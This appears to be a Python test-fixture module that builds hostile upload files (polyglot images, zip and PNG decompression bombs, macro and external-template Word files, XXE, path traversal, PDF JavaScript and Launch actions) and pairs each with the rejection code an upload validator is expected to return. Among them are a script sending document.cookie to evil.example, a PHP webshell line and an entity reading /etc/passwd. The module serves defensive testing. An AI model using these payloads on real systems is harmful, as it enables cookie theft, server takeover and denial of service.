"""Files that hurt, made here byte by byte: what each is, its name, its bytes, and the code of its refusal."""

import io
import struct
import zipfile
import zlib
from typing import Any

from docx import Document
from PIL import Image

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
EXE = b"MZ\x90\x00\x03" + b"\0" * 55 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 400
RELS = "word/_rels/document.xml.rels"


def picture(kind: str = "PNG", size: tuple[int, int] = (64, 48), **more: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "seagreen").save(out, kind, **more)
    return out.getvalue()


def word(text: str = "云岭茶业新媒体管理办法") -> bytes:
    document, out = Document(), io.BytesIO()
    document.add_paragraph(text)
    document.save(out)
    return out.getvalue()


def with_parts(data: bytes, parts: dict[str, bytes], compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The same archive with parts added or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", compress) as new:
        for entry in old.infolist():
            if entry.filename not in parts:
                new.writestr(entry.filename, old.read(entry))
        for name, content in parts.items():
            new.writestr(name, content)
    return out.getvalue()


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def relation(kind: str, target: str) -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Id="rId99" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
    return part(word(), RELS).replace(b"</Relationships>", one.encode() + b"</Relationships>")


def overlapping(copies: int = 50, size: int = 1_000_000) -> bytes:
    """Many names for one packed body: within the ratio by the directory of each, without end altogether."""
    data = bytearray(with_parts(word(), {"word/media/x.bin": b"\0" * size}))
    end = data.rfind(b"PK\x05\x06")
    total, length, start = struct.unpack("<HII", data[end + 10 : end + 20])
    directory = bytes(data[start : start + length])
    last = directory[directory.rfind(b"PK\x01\x02") :]
    extra = b"".join(
        last[:28] + struct.pack("<H", len(n)) + last[30:46] + n for n in (b"word/m%d" % i for i in range(copies))
    )
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, total + copies, total + copies, length + len(extra), start, 0)
    return bytes(data[:start]) + directory + extra + tail


def lying_sizes() -> bytes:
    """A body of 300 MB whose headers claim ten bytes."""
    data = bytearray(with_parts(word(), {"word/media/x.bin": b"\0" * 300_000_000}))
    real, small = struct.pack("<I", 300_000_000), struct.pack("<I", 10)
    return bytes(data.replace(real, small))


def bomb_png() -> bytes:
    """A text chunk that unpacks to 200 MB."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    text = chunk(b"zTXt", b"c\0\0" + zlib.compress(b"\0" * 200_000_000, 9))
    head = picture()
    return head[:33] + text + head[33:]


def frames(count: int) -> bytes:
    out = io.BytesIO()
    pictures = [Image.new("P", (8, 8), n % 256) for n in range(count)]
    for n, one in enumerate(pictures):
        one.putpixel((n % 8, n // 8 % 8), 255 - n % 250)
    pictures[0].save(out, "GIF", save_all=True, append_images=pictures[1:])
    return out.getvalue()


def pdf(body: bytes = b"", head: bytes = b"", tail: bytes = b"") -> bytes:
    return head + b"%PDF-1.7\n1 0 obj\n<</Type/Catalog" + body + b">>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n" + tail


def packed_pdf(inside: bytes) -> bytes:
    packed = zlib.compress(inside)
    stream = b"2 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    return b"%PDF-1.7\n" + stream + packed + b"\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def ole_package() -> bytes:
    return b"\xd0\xcf\x11\xe0" + b"\0" * 508 + "\x01Ole10Native".encode("utf-16-le") + EXE


DTD = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>'
XXE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'


def pictures() -> dict[str, tuple[str, bytes, str]]:
    png, jpeg = picture(), picture("JPEG")
    return {
        "a program named as a picture": ("茶园.jpg", EXE, "file_type"),
        "a page named as a picture": ("茶园.png", b"<!doctype html>" + SCRIPT, "file_type"),
        "an SVG with a script": ("茶园.png", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", "file_type"),
        "an SVG by its name": ("茶园.svg", png, "file_name_active"),
        "a TIFF": ("茶园.tif", picture("TIFF"), "file_type"),
        "a BMP": ("茶园.jpg", picture("BMP"), "file_type"),
        "a picture that is an archive too": ("茶园.jpg", jpeg + word(), "file_picture_archive"),
        "a picture that is a PDF too": ("茶园.png", png + pdf(), "file_picture_archive"),
        "a picture that is a program too": ("茶园.png", png + EXE, "file_picture_archive"),
        "a picture that is a page too": ("茶园.png", png + SCRIPT, "file_picture_script"),
        "a picture that is a server script too": ("茶园.jpg", jpeg + b"<?php system($_GET[0]);", "file_picture_script"),
        "a GIF that is a page too": ("茶园.gif", picture("GIF") + b"<HTML>" + SCRIPT, "file_picture_script"),
        "a second ending that runs": ("茶园.php.jpg", jpeg, "file_name_active"),
        "a last ending that runs": ("茶园.jpg.exe", jpeg, "file_name_active"),
        "an ending with a dot and a space behind": ("茶园.exe. .jpg", jpeg, "file_name_active"),
        "an ending turned around": ("茶园\u202egpj.exe", jpeg, "file_name_direction"),
        "a zero in the name": ("茶园.php\x00.jpg", jpeg, "file_name_nul"),
        "sixty million pixels": ("茶园.png", picture(size=(10_000, 6_000)), "file_picture_large"),
        "a text chunk of 200 MB": ("茶园.png", bomb_png(), "file_picture_unreadable"),
        "four hundred frames": ("茶园.gif", frames(400), "file_picture_frames"),
        "a picture that breaks off": ("茶园.png", png[: len(png) // 2], "file_picture_unreadable"),
        "a JPEG head before a GIF": ("茶园.jpg", b"\xff\xd8\xff\xe0" + picture("GIF"), "file_picture_unreadable"),
        "nothing": ("茶园.png", b"", "file_empty"),
        "eleven megabytes": ("茶园.png", png + b"\0" * 11 * 1024 * 1024, "file_too_large"),
    }  # fmt: skip


def documents() -> dict[str, tuple[str, bytes, str]]:
    types = part(word(), "[Content_Types].xml")
    macro = types.replace(b"wordprocessingml.document.main+xml", b"x").replace(
        b"application/vnd.openxmlformats-officedocument.x", b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    return {
        "a plain archive": ("制度.docx", with_parts(b"PK\x05\x06" + b"\0" * 18, {"a.txt": b"x"}), "file_type"),
        "macros": ("制度.docx", with_parts(word(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "file_office_macro"),
        "macros by their type": ("制度.docx", with_parts(word(), {"[Content_Types].xml": macro}), "file_office_macro"),
        "a control": ("制度.docx", with_parts(word(), {"word/activeX/activeX1.xml": b"<x/>"}), "file_office_macro"),
        "a program inside": ("制度.docx", with_parts(word(), {"word/embeddings/oleObject1.bin": ole_package()}), "file_office_embedded"),
        "an archive inside": ("制度.docx", with_parts(word(), {"word/embeddings/a.zip": word()}), "file_office_embedded"),
        "a template from elsewhere": ("制度.docx", with_parts(word(), {RELS: relation("attachedTemplate", "https://evil.example/t")}), "file_office_outside"),
        "an object from a share": ("制度.docx", with_parts(word(), {RELS: relation("oleObject", "\\\\evil.example\\s\\a")}), "file_office_outside"),
        "entities that multiply": ("制度.docx", with_parts(word(), {"word/document.xml": DTD}), "file_office_entity"),
        "an entity that reads a file": ("制度.docx", with_parts(word(), {"word/styles.xml": XXE}), "file_office_entity"),
        "an entity in UTF-16": ("制度.docx", with_parts(word(), {"word/styles.xml": XXE.decode().encode("utf-16")}), "file_office_entity"),
        "a way out": ("制度.docx", with_parts(word(), {"../../etc/cron.d/x": b"x"}), "file_office_path"),
        "one name twice": ("制度.docx", with_parts(word(), {"WORD/document.xml": b"<x/>"}), "file_office_twice"),
        "something behind it": ("制度.docx", word() + SCRIPT, "file_office_tail"),
        "300 MB in a few bytes": ("制度.docx", with_parts(word(), {"word/media/x.bin": b"\0" * 300_000_000}), "file_bomb"),
        "sizes that lie": ("制度.docx", lying_sizes(), "file_office_broken"),
        "one body under fifty names": ("制度.docx", overlapping(), "file_bomb"),
        "six thousand parts": ("制度.docx", with_parts(word(), {f"word/p{n}.xml": b"" for n in range(6000)}), "file_bomb"),
        "half a file": ("制度.docx", word()[:4000], "file_type"),
        "a PDF with a script": ("证照.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "file_pdf_active"),
        "a script under another spelling": ("证照.pdf", pdf(b"/OpenAction<</S/J#61vaScript/#4aS(x)>>"), "file_pdf_active"),
        "a script in a packed stream": ("证照.pdf", packed_pdf(b"1 0 <</S/JavaScript/JS(x)>>"), "file_pdf_active"),
        "a PDF that starts a program": ("证照.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "file_pdf_active"),
        "a PDF behind a page": ("证照.pdf", b"<html>" + SCRIPT + pdf(), "file_type"),
        "a page behind a PDF": ("证照.pdf", pdf(tail=SCRIPT), "file_pdf_tail"),
        "a PDF with a password": ("证照.pdf", pdf().replace(b"trailer<<", b"trailer<</Encrypt 3 0 R"), "file_pdf_locked"),
        "a PDF that unpacks without end": ("证照.pdf", packed_pdf(b"\0" * 210_000_000), "file_pdf_bomb"),
        "a page as text": ("说明.txt", b"  <!DOCTYPE html>" + SCRIPT, "file_type"),
        "a program as text": ("说明.txt", EXE, "file_type"),
    }  # fmt: skip
